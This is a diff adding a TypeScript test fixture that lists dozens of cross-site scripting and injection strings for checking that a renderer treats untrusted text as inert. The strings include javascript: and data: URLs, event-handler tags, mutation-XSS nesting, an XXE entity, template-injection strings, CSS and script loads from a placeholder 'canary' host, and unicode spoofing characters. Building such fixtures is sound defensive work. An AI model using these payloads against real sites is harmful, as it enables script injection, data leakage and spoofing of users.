@@ -1,0 +1,165 @@
+/**
+ * Texts that want to be more than text, of our own making, by what each tries. Wherever data is shown they are words
+ * and nothing else. `canary` is an address that nobody must ever ask, and `canary()` a function that nobody must call.
+ */
+export interface HostileText {
+  readonly kind: string;
+  readonly text: string;
+}
+
+const CALL = 'canary()';
+const NUL = String.fromCharCode(0);
+
+export function hostileTexts(canary: string): readonly HostileText[] {
+  const events = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onbegin'];
+  const links = [
+    `javascript:${CALL}`,
+    `JaVaScRiPt:${CALL}`,
+    `java\tscript:${CALL}`,
+    `java\nscript:${CALL}`,
+    ` \u0001javascript:${CALL}`,
+    `javascript&colon;${CALL}`,
+    `&#106;avascript:${CALL}`,
+    `vbscript:msgbox(1)`,
+    `data:text/html,<script>${CALL}</script>`,
+    `data:text/html;base64,${Buffer.from(`<script>${CALL}</script>`).toString('base64')}`,
+    `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${CALL}"/>`,
+    `blob:${canary}/x`,
+    `//${new URL(canary).host}/x`,
+  ];
+  const kinds: Record<string, readonly string[]> = {
+    script: [
+      `<script>${CALL}</script>`,
+      `<SCRIPT SRC=${canary}/a.js></SCRIPT>`,
+      `<script type=module>import '${canary}/m.js'</script>`,
+      `<script\n>${CALL}</script\n>`,
+      `<script/x>${CALL}</script>`,
+      `</script><script>${CALL}</script>`,
+      `<scr<script>ipt>${CALL}</scr</script>ipt>`,
+      `<svg><script href=${canary}/s.js /></svg>`,
+      `<math><mtext><script>${CALL}</script></mtext></math>`,
+      `<noscript><p title="</noscript><script>${CALL}</script>"></noscript>`,
+    ],
+    event: [
+      ...events.map(event => `<img src=x ${event}=${CALL}>`),
+      ...events.map(event => `<svg ${event}="${CALL}"><animate attributeName=x dur=1s></svg>`),
+      ...['body', 'video', 'audio', 'details open', 'input autofocus', 'select autofocus', 'marquee', 'iframe'].map(
+        tag => `<${tag} onload=${CALL} onfocus=${CALL} onstart=${CALL} ontoggle=${CALL} src=x>`,
+      ),
+      `<img src="x"onerror="${CALL}">`,
+      `<img/src=x/onerror=${CALL}>`,
+      `<img src=x onerror\u00a0=${CALL}>`,
+      `"><img src=x onerror=${CALL}>`,
+      `' onmouseover='${CALL}`,
+      `" autofocus onfocus="${CALL}" x="`,
+    ],
+    link: [
+      ...links,
+      ...links.slice(0, 10).map(link => `<a href="${link}">here</a>`),
+      ...links.slice(0, 4).map(link => `[here](${link})`),
+      `<form action="javascript:${CALL}"><button>send</button></form>`,
+      `<iframe src="javascript:${CALL}"></iframe>`,
+      `<object data="javascript:${CALL}"></object>`,
+      `<embed src="${canary}/e.swf">`,
+      `<base href="${canary}/">`,
+      `<meta http-equiv=refresh content="0;url=${canary}/r">`,
+      `<link rel=stylesheet href=${canary}/l.css>`,
+      `<a href="${canary}/x" target=_blank ping="${canary}/p">a</a>`,
+    ],
+    nesting: [
+      '<div><b><i></div></b>',
+      '</div></div></main></body></html>',
+      '<table><tr><td></table></td>',
+      `<title></title><img src=x onerror=${CALL}>`,
+      `<textarea></textarea><img src=x onerror=${CALL}>`,
+      `<xmp></xmp><img src=x onerror=${CALL}>`,
+      `<template><img src=x onerror=${CALL}></template>`,
+      `<math><mi><table><mglyph><style><img src=x onerror=${CALL}>`,
+      `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${CALL} src>">`,
+      `<!--><img src=x onerror=${CALL}>-->`,
+      `<![CDATA[><img src=x onerror=${CALL}>]]>`,
+      `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "${canary}/b">]><a>&b;</a>`,
+      '<plaintext>',
+      `<${'b>'.repeat(1)}${'<b>'.repeat(400)}`,
+    ],
+    entity: [
+      `&lt;script&gt;${CALL}&lt;/script&gt;`,
+      `&#60;img src=x onerror=${CALL}&#62;`,
+      `&#x3c;img src=x onerror=${CALL}&#x3e;`,
+      `&amp;lt;img src=x onerror=${CALL}&amp;gt;`,
+      `\\u003cimg src=x onerror=${CALL}\\u003e`,
+      `%3Cimg%20src=x%20onerror=${CALL}%3E`,
+      '&nbsp;&copy;&notanentity;&#0;&#xD800;&#1114112;',
+    ],
+    template: [
+      `{{constructor.constructor('${CALL}')()}}`,
+      `\${${CALL}}`,
+      `#{${CALL}}`,
+      `<%= ${CALL} %>`,
+      '{count} {name} {0} %s %d %(x)s',
+      '%{x} %{y} %{customdata} %{fullData.name}<extra></extra>',
+      '$t(app:name) $t(ui.cancel)',
+      '__proto__',
+      'constructor',
+      'toString',
+      'hasOwnProperty',
+      `{{#with "s" as |string|}}{{${CALL}}}{{/with}}`,
+    ],
+    style: [
+      `<style>*{background:url(${canary}/s)}</style>`,
+      `<div style="background:url(${canary}/d)">a</div>`,
+      `<p style="position:fixed;inset:0;z-index:9999">all of the window</p>`,
+      `red;background:url(${canary}/c)`,
+      `}*{background:url(${canary}/c)}`,
+      `@import '${canary}/i.css';`,
+      `expression(${CALL})`,
+      `</style><img src=x onerror=${CALL}>`,
+    ],
+    chart: [
+      '<b>bold</b>',
+      '<a href="//a.io">a</a>',
+      `<a href="${canary}">a</a>`,
+      '<br><br><br>',
+      '<sup>1</sup><sub>2</sub>',
+      '<span style="color:red">',
+      '$\\int_0^1 x$',
+      '<i>x</i>&<u>y',
+      '<extra>x</extra>',
+      '%{x:.9f}',
+    ],
+    markdown: [
+      `![a](${canary}/m.png)`,
+      `[a]: ${canary}/r\n[a]`,
+      `**bold** <img src=x onerror=${CALL}>`,
+      `\`\`\`html\n<img src=x onerror=${CALL}>\n\`\`\``,
+      `<details><summary>a</summary><img src=x onerror=${CALL}></details>`,
+      `[${'['.repeat(50)}a](javascript:${CALL})`,
+      `<${canary}/auto>`,
+      '| a | b |\n|---|---|\n| <b>1</b> | 2 |',
+    ],
+    unicode: [
+      '\u202egpj.exe',
+      '\u2066left\u2067right\u2069 then \u202eback',
+      `${'\u202e'.repeat(40)}turned`,
+      'zero\u200bwidth\u200djoined\ufeff',
+      `nul${NUL}in the middle`,
+      `bell\u0007 escape\u001b[31m back\u0008space`,
+      'half of a pair \ud800 and \udfff',
+      'z\u0335\u0321a\u0337\u0322l\u0336\u0321g\u0335o\u0336'.repeat(12),
+      '\uff1cscript\uff1e\uff43anary()\uff1c/script\uff1e',
+      '\u2028line\u2029paragraph',
+      'ﷺ'.repeat(40),
+      '👨‍👩‍👧‍👦'.repeat(30),
+      'a'.repeat(5000),
+      'İıſß',
+    ],
+    error: [
+      `Not found: ${canary}/?q=<img src=x onerror=${CALL}>`,
+      `Could not read "${canary}/<script>${CALL}</script>": 404`,
+      `see <a href="javascript:${CALL}">the log</a> at ${canary}`,
+      `/data/"><script>${CALL}</script>.csv`,
+      `..\\..\\<img src=x onerror=${CALL}>.jsonl`,
+    ],
+  };
+  return Object.entries(kinds).flatMap(([kind, texts]) => texts.map(text => ({ kind, text })));
+}
